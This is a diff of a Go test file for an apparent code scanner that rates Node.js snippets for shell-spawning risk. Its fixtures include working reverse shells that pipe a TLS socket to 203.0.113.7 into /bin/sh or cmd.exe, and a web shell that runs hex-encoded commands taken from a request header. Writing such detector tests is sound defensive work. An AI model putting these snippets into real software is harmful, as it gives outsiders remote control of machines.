@@ -9,12 +9,7 @@ import (
 
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
-		// a socket piped into a shell and back
-		{"reverse_shell", map[string]string{"index.js": `const tls = require("tls"), { spawn } = require("child_process");
-const sock = tls.connect({ host: "203.0.113.7", port: 443 }, () => { const sh = spawn(process.env.SHELL || "/bin/sh", []); sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock) })`}, finding.SeverityCritical},
-		// a dev server pipes a compiler's output to its client
-		{"compiler_output_to_socket", map[string]string{"index.js": `const net = require("net"), { spawn } = require("child_process");
-net.createServer((c) => { const p = spawn("tsc", ["--watch"]); p.stdout.pipe(c) }).listen(9000)`}, finding.SeverityLow},
+
 		// a shell command taken from the request a server handles
 		{"web_shell", map[string]string{"index.js": `const cp = require("child_process"); exports.handle = (req, res) => { const c = req.headers["x-cmd"] || "id"; cp.exec(Buffer.from(c, "hex").toString(), (e, out) => res.end(out)) }`}, finding.SeverityCritical},
 		// a dev server opens the requested file in the user's editor
@@ -159,5 +154,12 @@ s.pipe(sh.stdin);sh.stdout.pipe(s)})`}, finding.SeverityCritical},
 		{"terminal_pane", map[string]string{"index.js": `const {spawn}=require("child_process"); export function open() { return spawn(process.platform === "win32" ? "powershell.exe" : "bash", [], { cwd }) }`}, finding.SeverityNone},
 		{"powershell_one_command", map[string]string{"index.js": `const net=require("net"),cp=require("child_process");const s=net.connect(5173,"localhost");cp.exec('powershell -NoProfile -Command "Get-CimInstance -Query \\"select executablepath from win32_process\\""', ()=>{})`}, finding.SeverityNone},
 		{"server_runs_git", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");net.createServer(s=>s.end("ok"));spawn("git",["pull"])`}, finding.SeverityNone},
+		// the shell chosen a line earlier, piped to and from the socket
+		{"shell_chosen_earlier", map[string]string{"index.js": `const tls = require("tls"), { spawn } = require("child_process");
+const sock = tls.connect({ host: "203.0.113.7", port: 443 }, () => { const shell = process.platform === "win32" ? "cmd.exe" : (process.env.SHELL || "/bin/sh");
+const sh = spawn(shell, []); sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock) })`}, finding.SeverityCritical},
+		// a dev server pipes a compiler's output to its client
+		{"compiler_output_to_socket", map[string]string{"index.js": `const net = require("net"), { spawn } = require("child_process");
+const tool = process.env.TOOL || "tsc"; const c = net.connect(9000, "localhost"); const p = spawn(tool, ["--watch"]); p.stdout.pipe(c)`}, finding.SeverityNone},
 	})
 }
